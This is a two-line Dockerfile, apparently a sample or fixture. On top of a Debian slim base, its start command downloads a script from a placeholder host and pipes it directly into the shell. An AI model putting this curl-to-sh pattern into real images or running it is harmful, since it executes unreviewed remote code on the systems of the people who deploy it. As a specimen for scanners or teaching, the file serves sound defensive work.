FROM debian:bookworm-slim
CMD curl https://example.com/i | sh
